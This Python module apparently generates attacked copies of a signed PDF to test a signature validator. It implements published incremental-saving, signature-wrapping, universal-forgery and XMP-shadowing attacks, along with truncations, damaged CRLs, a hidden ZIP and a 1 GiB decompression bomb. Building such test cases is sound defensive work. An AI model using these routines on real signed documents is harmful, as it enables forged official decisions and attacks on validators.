"""Attacked copies of a signed document, made the way the published attacks on PDF signatures work.

Mladenov et al., "1 Trillion Dollar Refund – How To Spoof PDF Signatures" (CCS 2019): incremental
saving (ISA), signature wrapping (SWA), universal signature forgery (USF). Mainka et al., "Shadow
Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021): hide, replace, hide-and-replace.
Plus what an archive meets by accident or malice: stripped and truncated files, damaged
cross-reference chains, metadata and validation data changed after signing.

Each function takes the bytes of a signed file (or works from the stages in :class:`Stages`) and
returns the attacked bytes. Updates are written by hand where the attack lives in the bytes
(pointers, trailers, byte ranges), and with pyHanko or pypdf where it lives in the objects.
"""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

Attack = Callable[[bytes], bytes]
FORGED_TEXT = "FORFALSKET VEDTAK"


# --- writing updates by hand ----------------------------------------------------------------------


def reader(data: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(data), strict=False)


def serialize(obj: generic.PdfObject) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    listed: set[int] | None = None,
    offsets: dict[int, int] | None = None,
    trailer: dict[str, bytes] | None = None,
) -> bytes:
    """Append an incremental update defining ``objects`` (number → body). ``listed``: the
    numbers its cross-reference section names (default all); ``offsets`` overrides where the
    section says an object is; ``trailer`` adds or replaces trailer entries."""
    r = reader(data)
    entries = {
        "/Size": str(max([int(r.trailer["/Size"]), *(n + 1 for n in objects)])).encode(),
        "/Root": serialize(r.trailer.raw_get("/Root")),
        "/Prev": str(last_startxref(data)).encode(),
    }
    for key in ("/Info", "/ID"):
        if key in r.trailer:
            entries[key] = serialize(r.trailer.raw_get(key))
    entries.update(trailer or {})
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    where: dict[int, int] = {}
    for number, body in objects.items():
        where[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    where.update(offsets or {})
    xref = len(out)
    out += b"xref\n"
    for number in sorted(listed if listed is not None else set(objects)):
        out += f"{number} 1\n{where[number]:010d} 00000 n \n".encode()
    out += b"trailer\n<<" + b"".join(k.encode() + b" " + v + b"\n" for k, v in entries.items())
    out += f">>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def get(data: bytes, ref: generic.Reference | int) -> tuple[int, generic.PdfObject]:
    r = reader(data)
    ref = ref if isinstance(ref, generic.Reference) else generic.Reference(ref, 0, r)
    return ref.idnum, r.get_object(generic.Reference(ref.idnum, ref.generation, r))


def page_ref(data: bytes) -> int:
    """The object number of page 1."""
    kid = reader(data).root.raw_get("/Pages")
    while "/Kids" in kid.get_object():
        kid = kid.get_object()["/Kids"].raw_get(0)
    return int(kid.reference.idnum)


def forged_content() -> bytes:
    text = f"BT /F1 24 Tf 72 760 Td ({FORGED_TEXT}) Tj ET".encode()
    return f"<< /Length {len(text)} >>\nstream\n".encode() + text + b"\nendstream"


def forged_page(data: bytes, content: int) -> tuple[int, bytes]:
    """Page 1 showing only ``content`` (an object number), in Helvetica."""
    number, page = get(data, page_ref(data))
    assert isinstance(page, generic.DictionaryObject)
    page[generic.pdf_name("/Contents")] = generic.IndirectObject(content, 0, None)
    font = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Font"),
        generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
        generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
    })  # fmt: skip
    page[generic.pdf_name("/Resources")] = generic.DictionaryObject(
        {generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/F1"): font})}
    )
    return number, serialize(page)


def free_number(data: bytes) -> int:
    return int(reader(data).trailer["/Size"])


def field_ref(data: bytes, name: str) -> int:
    r = reader(data)
    for ref in r.root["/AcroForm"]["/Fields"]:
        if str(ref.get_object()["/T"]) == name:
            return int(ref.reference.idnum)
    raise KeyError(name)


def value_ref(data: bytes, name: str) -> int:
    _, field = get(data, field_ref(data, name))
    assert isinstance(field, generic.DictionaryObject)
    return int(field.raw_get("/V").reference.idnum)


def with_field_value(data: bytes, name: str, value: bytes | None) -> bytes:
    """An update that sets (or, with None, removes) the /V of field ``name``."""
    number, field = get(data, field_ref(data, name))
    assert isinstance(field, generic.DictionaryObject)
    body = serialize(field)
    body = re.sub(rb"/V \d+ \d+ R", b"" if value is None else b"/V " + value, body)
    return update(data, {number: body})


def sig_dict(data: bytes, name: str) -> tuple[int, int]:
    """(start, end) of the signature dictionary object of field ``name`` in ``data``."""
    number = value_ref(data, name)
    offset = reader(data).xrefs[generic.Reference(number, 0)]
    assert isinstance(offset, int)
    return offset, data.index(b"endobj", offset)


def in_place(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """Replace ``old`` by ``new`` (same length) inside field ``name``'s signature dictionary."""
    assert len(old) == len(new)
    start, end = sig_dict(data, name)
    at = data.index(old, start, end)
    return data[:at] + new + data[at + len(old) :]


def byte_range(data: bytes, name: str) -> tuple[int, int, int, int]:
    start, end = sig_dict(data, name)
    found = re.search(rb"/ByteRange\s*\[\s*(\d+) (\d+) (\d+) (\d+)\s*\]", data[start:end])
    assert found
    a, b, c, d = (int(x) for x in found.groups())
    return a, b, c, d


def revision_ends(data: bytes) -> list[int]:
    return [m.end() for m in re.finditer(rb"startxref\s+\d+\s+%%EOF\r?\n?", data)]


@dataclass
class Stages:
    """The seed minutes at each step: built, first signature (certifying), both signatures
    (B-LT), final document timestamp (B-LTA)."""

    unsigned: bytes
    first: bytes
    both: bytes
    final: bytes


# --- incremental saving attacks ------------------------------------------------------------------


def isa_content(data: bytes) -> bytes:
    """A proper incremental update that replaces page 1's text."""
    content = free_number(data)
    page, body = forged_page(data, content)
    return update(data, {content: forged_content(), page: body})


def isa_startxref_off(data: bytes) -> bytes:
    """The update of :func:`isa_content` with its startxref three bytes off: lenient readers
    'correct' it, viewers rebuild the table and show the forged page."""
    forged = isa_content(data)
    value = last_startxref(forged)
    return forged.replace(f"startxref\n{value}\n".encode(), f"startxref\n{value - 3}\n".encode())


def isa_no_xref(data: bytes) -> bytes:
    """The forged objects appended after %%EOF, with no cross-reference section at all."""
    content = free_number(data)
    page, body = forged_page(data, content)
    objects = ((content, forged_content()), (page, body))
    return data + b"".join(f"{n} 0 obj\n".encode() + b + b"\nendobj\n" for n, b in objects)


def isa_own_eof(data: bytes) -> bytes:
    """The forged objects appended with an %%EOF of their own, but no cross-reference section."""
    return isa_no_xref(data) + b"%%EOF\n"


def isa_old_startxref(data: bytes) -> bytes:
    """The forged objects appended, then 'startxref <the previous section> %%EOF': the revision
    chain is intact, the appended bytes belong to no revision."""
    return isa_no_xref(data) + f"startxref\n{last_startxref(data)}\n%%EOF\n".encode()


def hidden_object(data: bytes) -> bytes:
    """A proper update that also carries, unlisted in its cross-reference section, a new body
    for page 1: a strict reader ignores it, a reader that rebuilds the table shows it."""
    content = free_number(data)
    page, body = forged_page(data, content)
    info = reader(data).trailer.raw_get("/Info").reference.idnum
    _, info_dict = get(data, info)
    objects = {info: serialize(info_dict), content: forged_content(), page: body}
    return update(data, objects, listed={info})


def xref_revert(data: bytes) -> bytes:
    """An update whose cross-reference section points the byradsleder field back at its
    unsigned body in revision 1: a signature stripped without writing a new object."""
    number = field_ref(data, "byradsleder")
    r = reader(data)
    first = r.xrefs.get_historical_ref(generic.Reference(number, 0), 0)
    assert isinstance(first, int)
    return update(data, {}, listed={number}, offsets={number: first})


def prev_loop(data: bytes) -> bytes:
    """The last trailer's /Prev points at its own cross-reference section."""
    own = last_startxref(data)
    prev = re.findall(rb"/Prev (\d+)", data)[-1]
    new = str(own).encode().rjust(len(prev))
    assert len(new) == len(prev)
    at = data.rindex(b"/Prev " + prev)
    return data[:at] + b"/Prev " + new + data[at + 6 + len(prev) :]


def prev_garbage(data: bytes) -> bytes:
    """The last trailer's /Prev points into the middle of an object."""
    prev = re.findall(rb"/Prev (\d+)", data)[-1]
    new = str(int(prev) - 1000).encode()
    at = data.rindex(b"/Prev " + prev)
    return data[:at] + b"/Prev " + new.rjust(len(prev)) + data[at + 6 + len(prev) :]


def trailing_garbage(data: bytes) -> bytes:
    return data + b"1 0 obj <</Type /Catalog>> trailing bytes without an end marker"


def truncated(data: bytes) -> bytes:
    """Cut in the middle of the last revision."""
    ends = revision_ends(data)
    return data[: (ends[-2] + ends[-1]) // 2]


def stream_ends_early(data: bytes) -> bytes:
    """An update with a stream whose /Length runs past its data."""
    content = free_number(data)
    body = b"<< /Length 5000 >>\nstream\nBT ET\nendstream"
    page, page_body = forged_page(data, content)
    return update(data, {content: body, page: page_body})


# --- signature wrapping and universal forgery ------------------------------------------------


def swa_shift(data: bytes) -> bytes:
    """The final timestamp's /ByteRange edited in place so that its second range starts later:
    bytes after its /Contents fall out of every signature."""
    _, a, b, c = byte_range(data, "Dokumenttidsstempel")
    old = f"[0 {a} {b} {c}]".encode()
    new = f"[0 {a} {b + 9} {c - 9}]".encode()
    assert len(new) == len(old)
    return in_place(data, "Dokumenttidsstempel", old, new)


def swa_relocate(data: bytes) -> bytes:
    """Mladenov's wrapping: the final timestamp's signed second range moved behind forged
    content, its /ByteRange pointing there, so that the signed bytes are the same."""
    _, a, b, c = byte_range(data, "Dokumenttidsstempel")
    original_second = data[b : b + c]
    forged = isa_content(data[: b + c])[b + c :]
    new_b = b + len(forged)
    old_range = f"[0 {a} {b} {c}]".encode()
    new_range = f"[0 {a} {new_b} {c}]".encode().ljust(len(old_range))
    head = data[:b].replace(old_range, new_range) if old_range in data[:b] else data[:b]
    tail = original_second.replace(old_range, new_range[: len(old_range)], 1)
    return head + forged + tail + data[b + c :]


def usf_value(body: bytes) -> Attack:
    """Replace byradsleder's signature by a new signature dictionary ``body``."""

    def attack(data: bytes) -> bytes:
        number = free_number(data)
        with_dict = update(data, {number: body})
        return with_field_value(with_dict, "byradsleder", f"{number} 0 R".encode())

    return attack


FORGED_SIG = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
usf_no_contents = usf_value(FORGED_SIG + b"/ByteRange [0 100 200 300] >>")
usf_empty_contents = usf_value(FORGED_SIG + b"/ByteRange [0 100 200 300] /Contents <> >>")


def usf_zero_byterange(data: bytes) -> bytes:
    """byradsleder's real signature dictionary, copied with /ByteRange [0 0 0 0]."""
    _, value = get(data, value_ref(data, "byradsleder"))
    body = re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange [0 0 0 0]", serialize(value))
    return usf_value(body)(data)


def usf_no_byterange(data: bytes) -> bytes:
    return in_place(data, "Dokumenttidsstempel", b"/ByteRange", b"/ByteRangX")


def usf_zeroed_contents(data: bytes) -> bytes:
    start, end = sig_dict(data, "Dokumenttidsstempel")
    lt = data.index(b"/Contents <", start, end) + len(b"/Contents <")
    gt = data.index(b">", lt)
    return data[:lt] + b"0" * (gt - lt) + data[gt:]


def usf_direct_value(data: bytes) -> bytes:
    """byradsleder's /V as a direct dictionary (a copy of its real one)."""
    _, value = get(data, value_ref(data, "byradsleder"))
    return with_field_value(data, "byradsleder", serialize(value))


def subfilter_tampered(data: bytes) -> bytes:
    return in_place(data, "Dokumenttidsstempel", b"/ETSI.RFC3161", b"/ETSI.RFC3162")


def timestamp_removed(data: bytes) -> bytes:
    return with_field_value(data, "Dokumenttidsstempel", None)


def signature_removed(data: bytes) -> bytes:
    return with_field_value(data, "politimester", None)


def value_swapped(data: bytes) -> bytes:
    return with_field_value(data, "byradsleder", f"{value_ref(data, 'politimester')} 0 R".encode())


def extra_unsupported_field(data: bytes) -> bytes:
    """A fourth signature field with a SubFilter pyHanko does not know (so its enumeration
    skips it), listed in the form and placed on page 1."""
    sig, fld = free_number(data), free_number(data) + 1
    root_ref, root = catalog(data)
    fields = root["/AcroForm"]["/Fields"]
    fields.append(generic.IndirectObject(fld, 0, None))
    body = FORGED_SIG.replace(b"/ETSI.CAdES.detached", b"/adbe.x509.rsa_sha1")
    field = (
        b"<< /FT /Sig /T (ekstra) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 4 /V "
        + f"{sig} 0 R".encode()
        + b" >>"
    )
    objects = {
        sig: body + b"/ByteRange [0 10 20 30] /Contents <3000> /Cert <3000> >>",
        fld: field,
        root_ref: serialize(root),
    }
    return update(data, objects)


def truncated_before_timestamp(data: bytes) -> bytes:
    """The file as it was before the final timestamp: a B-LTA document cut back to B-LT."""
    start, _ = sig_dict(data, "Dokumenttidsstempel")
    return data[: max(e for e in revision_ends(data) if e < start)]


def truncated_after_first(data: bytes) -> bytes:
    """Cut back to the revisions before politimester signed."""
    start, _ = sig_dict(data, "politimester")
    return data[: max(e for e in revision_ends(data) if e < start)]


# --- metadata, output intent, validation data ------------------------------------------------


def info_title(data: bytes) -> bytes:
    r = reader(data)
    info_ref = r.trailer.raw_get("/Info").reference.idnum
    _, info = get(data, info_ref)
    assert isinstance(info, generic.DictionaryObject)
    info[generic.pdf_name("/Title")] = generic.TextStringObject("Et annet dokument")
    return update(data, {info_ref: serialize(info)})


def xmp_changed(data: bytes) -> bytes:
    r = reader(data)
    meta = r.root.raw_get("/Metadata").reference.idnum
    _, stream = get(data, meta)
    assert isinstance(stream, generic.StreamObject)
    xml = stream.data.replace(b"Politir\xc3\xa5det", b"Et annet r\xc3\xa5d")
    xml = re.sub(rb"(pdfaid:part(?:>|=\"))2", rb"\g<1>3", xml)
    body = f"<< /Type /Metadata /Subtype /XML /Length {len(xml)} >>\nstream\n".encode()
    return update(data, {meta: body + xml + b"\nendstream"})


def catalog(data: bytes) -> tuple[int, generic.DictionaryObject]:
    number, root = get(data, reader(data).trailer.raw_get("/Root").reference.idnum)
    assert isinstance(root, generic.DictionaryObject)
    return number, root


def output_intent_changed(data: bytes) -> bytes:
    root_ref, root = catalog(data)
    intent = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/OutputIntent"),
        generic.pdf_name("/S"): generic.pdf_name("/GTS_PDFA1"),
        generic.pdf_name("/OutputConditionIdentifier"): generic.TextStringObject("CMYK"),
    })  # fmt: skip
    root[generic.pdf_name("/OutputIntents")] = generic.ArrayObject([intent])
    return update(data, {root_ref: serialize(root)})


def dss_removed(data: bytes) -> bytes:
    root_ref, root = catalog(data)
    del root["/DSS"]
    return update(data, {root_ref: serialize(root)})


def dss_crl_damaged(data: bytes) -> bytes:
    """Every CRL in the DSS replaced by a copy with one byte of its signature flipped."""
    r = reader(data)
    objects: dict[int, bytes] = {}
    for ref in r.root["/DSS"]["/CRLs"]:
        crl = bytearray(ref.get_object().data)
        crl[-3] ^= 0xFF
        head = f"<< /Length {len(crl)} >>\nstream\n".encode()
        objects[ref.reference.idnum] = head + bytes(crl) + b"\nendstream"
    return update(data, objects)


# --- controls: harmless changes that must stay valid ---------------------------------------------


def trailing_whitespace(data: bytes) -> bytes:
    return data + b"\r\n  \n"


def xmp_reserialised(data: bytes) -> bytes:
    """The same XMP metadata written again with other white space: nothing has changed."""
    r = reader(data)
    meta = r.root.raw_get("/Metadata").reference.idnum
    _, stream = get(data, meta)
    assert isinstance(stream, generic.StreamObject)
    xml = re.sub(rb">\s+<", b">\n    <", stream.data)
    body = f"<< /Type /Metadata /Subtype /XML /Length {len(xml)} >>\nstream\n".encode()
    return update(data, {meta: body + xml + b"\nendstream"})


# --- XMP edits that other readers see and a prefix-keyed reading does not -----------------------


def _xmp_edited(data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    r = reader(data)
    meta = r.root.raw_get("/Metadata").reference.idnum
    _, stream = get(data, meta)
    assert isinstance(stream, generic.StreamObject)
    xml = edit(stream.data)
    assert xml != stream.data
    body = f"<< /Type /Metadata /Subtype /XML /Length {len(xml)} >>\nstream\n".encode()
    return update(data, {meta: body + xml + b"\nendstream"})


_RDF_OPEN = re.compile(rb"(<rdf:RDF[^>]*>)")


def xmp_shadowed_title(data: bytes) -> bytes:
    """A description before the real one binds 'dc' to another namespace and gives a title: a
    reader keyed by prefix keeps the real title (the last), a viewer shows the first."""
    forged = (b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/#" rdf:about="">'
              b'<dc:title><rdf:Alt><rdf:li xml:lang="x-default">' + FORGED_TEXT.encode()
              + b"</rdf:li></rdf:Alt></dc:title></rdf:Description>")  # fmt: skip
    return _xmp_edited(data, lambda x: _RDF_OPEN.sub(lambda m: m.group(1) + forged, x, count=1))


def xmp_shadowed_pdfaid(data: bytes) -> bytes:
    """The same for the PDF/A identification: 'pdfaid' bound elsewhere, part 3 claimed."""
    forged = (b'<rdf:Description xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id" rdf:about="">'
              b"<pdfaid:part>3</pdfaid:part></rdf:Description>")  # fmt: skip
    return _xmp_edited(data, lambda x: _RDF_OPEN.sub(lambda m: m.group(1) + forged, x, count=1))


def xmp_duplicate_description(data: bytes) -> bytes:
    """A second description of the standard namespace with another title, before the real one."""
    forged = (b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" rdf:about="">'
              b'<dc:title><rdf:Alt><rdf:li xml:lang="x-default">' + FORGED_TEXT.encode()
              + b"</rdf:li></rdf:Alt></dc:title></rdf:Description>")  # fmt: skip
    return _xmp_edited(data, lambda x: _RDF_OPEN.sub(lambda m: m.group(1) + forged, x, count=1))


def xmp_comment_suffix(data: bytes) -> bytes:
    """The title's text ends in a comment and more text: the text before the comment is the
    same, the title a reader shows is longer."""
    return _xmp_edited(data, lambda x: re.sub(
        rb'(<rdf:li xml:lang="x-default">Referat[^<]*)(</rdf:li>)',
        rb"\g<1><!-- -->, " + FORGED_TEXT.encode() + rb"\g<2>", x, count=1))  # fmt: skip


def xmp_schema_dropped(data: bytes) -> bytes:
    """The PDF/A extension schema that describes pdfuaid removed: the packet no longer says
    what its own properties mean, and PDF/A requires it to."""
    return _xmp_edited(data, lambda x: re.sub(
        rb"<rdf:Description[^>]*xmlns:pdfaExtension=.*?</rdf:Description>\s*(?=</rdf:RDF>)",
        b"", x, count=1, flags=re.S))  # fmt: skip


# --- changes a signer makes in the revision his own signature closes ----------------------------
# Each edits a pyHanko writer before the signature is added, so the edit and the signature are
# one revision, covered by that signature: nothing after it is asked about them.

Edit = Callable[[IncrementalPdfFileWriter], None]


def own_nothing(w: IncrementalPdfFileWriter) -> None:
    """No edit: the control, a signature the intake takes in."""


def own_info_title(w: IncrementalPdfFileWriter) -> None:
    ref = w.trailer.raw_get("/Info")
    info = ref.get_object()
    info["/Title"] = generic.TextStringObject(FORGED_TEXT)
    w.mark_update(ref)


def own_xmp_title(w: IncrementalPdfFileWriter) -> None:
    """Retitled the way pyHanko's writer does it: its document metadata, written to /Info and to
    the XMP packet it writes again."""
    w.document_meta.title = FORGED_TEXT


def own_outline_title(w: IncrementalPdfFileWriter) -> None:
    outlines = w.root["/Outlines"]
    ref = outlines.raw_get("/First")
    ref.get_object()["/Title"] = generic.TextStringObject(FORGED_TEXT)
    w.mark_update(ref)


def own_page_labels(w: IncrementalPdfFileWriter) -> None:
    labels = generic.DictionaryObject({generic.NameObject("/S"): generic.NameObject("/r")})
    w.root["/PageLabels"] = generic.DictionaryObject(
        {generic.NameObject("/Nums"): generic.ArrayObject([generic.NumberObject(0), labels])}
    )
    w.update_root()


def own_orphan_zip(w: IncrementalPdfFileWriter) -> None:
    """A ZIP file in a stream nothing refers to: carried by the archive, shown by no viewer."""
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as z:
        z.writestr("skjult.txt", "Dette ser ingen.")
    w.add_object(generic.StreamObject(stream_data=payload.getvalue()))


def own_inflating_stream(w: IncrementalPdfFileWriter) -> None:
    """A stream of 1 GiB of zeros, about a megabyte compressed."""
    deflate, chunk, parts = zlib.compressobj(9), bytes(1 << 20), []
    for _ in range(1024):
        parts.append(deflate.compress(chunk))
    parts.append(deflate.flush())
    bomb = generic.StreamObject({generic.NameObject("/Filter"): generic.NameObject("/FlateDecode")},
                                encoded_data=b"".join(parts))  # fmt: skip
    ref = w.add_object(bomb)
    # Referred to from the page, so it is no orphan: only its size gives it away.
    page_ref = w.root["/Pages"]["/Kids"].raw_get(0)
    page_ref.get_object()["/PieceInfo"] = ref
    w.mark_update(page_ref)
